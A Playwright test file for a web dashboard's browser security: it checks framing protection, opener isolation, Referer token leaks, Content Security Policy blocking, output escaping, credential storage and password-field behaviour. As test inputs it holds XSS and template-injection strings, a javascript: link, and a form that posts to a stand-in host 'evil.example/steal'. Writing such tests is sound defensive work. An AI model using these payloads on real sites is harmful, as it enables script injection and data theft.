import { admin, createAccount, newPerson, requestAccess, signIn, submitSignIn } from "./accounts";
import { expect, test } from "./fixtures";
import { totpCode } from "./totp";

const csrf = { "X-Pacspace-CSRF": "1" };

test.describe("a page of another site", () => {
  test.use({
    expectedConsoleErrors: [/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE|Refused to|Content Security/],
  });

  test("can't frame a page, reach it through its opener or learn a URL with a token", async ({ page, baseURL }) => {
    const foreign = "http://evil.example/";
    await page.route(`${foreign}**`, (route) =>
      route.fulfill({ contentType: "text/html", body: "<title>Evil</title><h1>Evil</h1>" }),
    );
    await page.goto(foreign);
    const origin = new URL(baseURL ?? "").origin;
    for (const path of ["/login", "/admin", "/reset-password?token=made-up"]) {
      const shown = await page.evaluate(async (src) => {
        const frame = document.createElement("iframe");
        const loaded = new Promise((done) => frame.addEventListener("load", done));
        frame.src = src;
        document.body.append(frame);
        await loaded;
        try {
          return frame.contentDocument === null ? "closed" : frame.contentDocument.title;
        } catch {
          return "closed";
        }
      }, `${origin}${path}`);
      expect(shown, path).toBe("closed");
    }
    const frames = page.frames().filter((frame) => frame !== page.mainFrame());
    for (const frame of frames) expect(await frame.locator("input").count()).toBe(0);

    const [opened] = await Promise.all([
      page.waitForEvent("popup"),
      page.evaluate((to) => {
        (window as unknown as { popup: Window | null }).popup = window.open(to);
      }, `${origin}/login`),
    ]);
    await opened.waitForLoadState();
    expect(await opened.evaluate(() => window.opener === null)).toBe(true);
    const isCutOff = () => (window as unknown as { popup: Window | null }).popup?.closed;
    expect(await page.evaluate(isCutOff)).toBe(true);

    const referers: string[] = [];
    opened.on("request", (sent) => referers.push(sent.headers().referer ?? ""));
    await opened.route(`${foreign}**`, (route) => route.fulfill({ contentType: "image/png", body: "" }));
    await opened.goto(`${origin}/reset-password?token=made-up-token`);
    await opened.evaluate((src) => {
      const image = document.createElement("img");
      image.src = src;
      document.body.append(image);
    }, `${foreign}pixel.png`);
    await opened.waitForLoadState("networkidle");
    expect(referers.filter((referer) => referer.includes("token"))).toEqual([]);
  });
});

test.describe("injected HTML", () => {
  test.use({ expectedConsoleErrors: [/Content Security Policy|Refused to|violates the following/] });

  test("doesn't run, redirect links or send forms elsewhere", async ({ page }) => {
    await page.goto("/login");
    await page.evaluate(() => {
      const blocked: string[] = [];
      Object.assign(window, { blocked });
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
        blocked.push(effectiveDirective),
      );
      document.body.insertAdjacentHTML("beforeend", `<img src="data:," onerror="window.pwned = 'handler'">`);
      const link = document.createElement("a");
      link.href = "javascript:window.pwned = 'link'";
      document.body.append(link);
      link.click();
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
      const form = document.createElement("form");
      form.action = "https://evil.example/steal";
      form.method = "post";
      document.body.append(form);
      form.submit();
    });
    const seen = () =>
      page.evaluate(() => {
        const { blocked, pwned } = window as unknown as { blocked: string[]; pwned?: string };
        return {
          blocked: [...new Set(blocked)].sort(),
          pwned: pwned ?? null,
          base: document.baseURI,
          at: location.href,
        };
      });
    const at = page.url();
    const directives = ["base-uri", "form-action", "script-src-attr", "script-src-elem"];
    await expect.poll(seen).toEqual({ blocked: directives, pwned: null, base: at, at });
  });
});

test("user input is displayed as typed and never interpreted", async ({ page, browser, baseURL, mail }) => {
  const evil = `<img src=x onerror="window.pwned=1"></title><a href=//evil>{{7*7}}\${7*7}`;
  const applicant = newPerson(`A ${evil}`);
  await requestAccess(applicant);
  const person = await createAccount(mail, newPerson(`B ${evil}`));
  const userAgent = `<script>window.pwned=1</script> ${evil}`;
  const context = await browser.newContext({ baseURL, userAgent });
  await signIn(await context.newPage(), person);
  await signIn(page, person);
  const post = (path: string, data: object) => page.request.post(`/dashboard/auth/${path}`, { data, headers: csrf });
  await page.request.patch("/dashboard/auth/team", { data: { name: `T ${evil}` }, headers: csrf });
  const project = ((await (await post("projects", { name: `P ${evil}` })).json()) as { data: { id: string } }).data;
  expect((await post("api-keys", { name: `K ${evil}`, projectIds: [project.id] })).status()).toBe(201);

  const expectInert = async (path: string, text: string) => {
    await page.goto(path);
    await expect(page.getByText(text).first()).toBeVisible();
    const found = await page.evaluate(() => ({
      pwned: (window as unknown as { pwned?: number }).pwned ?? null,
      images: document.querySelectorAll("img[src=x]").length,
      links: document.querySelectorAll('a[href="//evil"]').length,
    }));
    expect(found, path).toEqual({ pwned: null, images: 0, links: 0 });
  };
  await expectInert("/account/api-keys", `K ${evil}`);
  await expectInert("/account/projects", `P ${evil}`);
  await expectInert("/account/team", `T ${evil}`);
  await expectInert("/account/profile", person.name);
  await page.goto("/account/security");
  await expect(page.getByRole("heading", { name: "Security", level: 1 })).toBeVisible();
  expect(await page.evaluate(() => document.querySelectorAll("img[src=x]").length)).toBe(0);
  await signIn(page, admin);
  await expectInert(`/admin/requests?q=${encodeURIComponent(applicant.email)}`, applicant.name);
  await expectInert(`/admin/users?q=${encodeURIComponent(person.email)}`, person.name);
  await context.close();
});

test("keeps credentials out of the browser's storage, history and cache", async ({ page, context, mail }) => {
  const person = await createAccount(mail);
  await page.goto("/login");
  await submitSignIn(page, person);
  await expect(page).toHaveURL(/\/account$/);
  await page.goto("/account/security");
  await page.getByRole("button", { name: "Turn on 2FA" }).click();
  const secret = await page.getByText(/^[A-Z2-7]{32}$/).innerText();
  await page.getByLabel("Authentication code").fill(await totpCode(secret));
  await page.getByRole("button", { name: "Verify code" }).click();
  const shown = page.getByText(/^(?:[A-Z2-7]{4}-){5}[A-Z2-7]{4}$/);
  await expect(shown).toHaveCount(10);
  const codes = await shown.allInnerTexts();
  const tokens = (await context.cookies()).map(({ value }) => value).filter((value) => value.length > 20);
  expect(tokens.length).toBeGreaterThan(1);
  await page.reload();
  await expect(page.getByRole("heading", { name: "Security", level: 1 })).toBeVisible();
  const kept = await page.evaluate(async () => {
    const databases = await indexedDB.databases();
    const caches_ = "caches" in window ? await caches.keys() : [];
    const workers = await navigator.serviceWorker?.getRegistrations();
    return JSON.stringify([
      { ...localStorage },
      { ...sessionStorage },
      databases,
      caches_,
      workers?.length ?? 0,
      document.cookie,
      location.href,
      history.state,
      window.name,
    ]);
  });
  const source = await page.content();
  for (const opens of [person.password, secret, ...codes, ...tokens]) {
    expect(kept).not.toContain(opens);
    expect(source).not.toContain(opens);
  }
});

test("password managers, paste and the reveal button work on every password field", async ({ page, mail }) => {
  const person = await createAccount(mail);
  const fields = async (path: string) => {
    await page.goto(path);
    return page
      .locator('input[type="password"]')
      .evaluateAll((found) => found.map((one) => one.getAttribute("autocomplete")));
  };
  expect(await fields("/login")).toEqual(["current-password"]);
  await page.evaluate(() => {
    const input = document.querySelector<HTMLInputElement>('input[type="password"]');
    input?.focus();
    document.execCommand("insertText", false, "pasted, not typed");
  });
  const field = page.getByLabel("Password", { exact: true });
  await expect(field).toHaveValue("pasted, not typed");
  const isStopped = await field.evaluate(
    (input) => !input.dispatchEvent(new ClipboardEvent("paste", { cancelable: true, bubbles: true })),
  );
  expect(isStopped, "nothing stands in the way of paste").toBe(false);
  await page.getByRole("button", { name: "Show password" }).first().click();
  await expect(field).toHaveAttribute("type", "text");
  await signIn(page, person);
  await page.goto("/account/security");
  await page.getByRole("button", { name: "Change password" }).click();
  const kinds = page.locator('input[type="password"]');
  await expect(kinds).toHaveCount(2);
  expect(await kinds.evaluateAll((found) => found.map((one) => one.getAttribute("autocomplete")))).toEqual([
    "current-password",
    "new-password",
  ]);
});
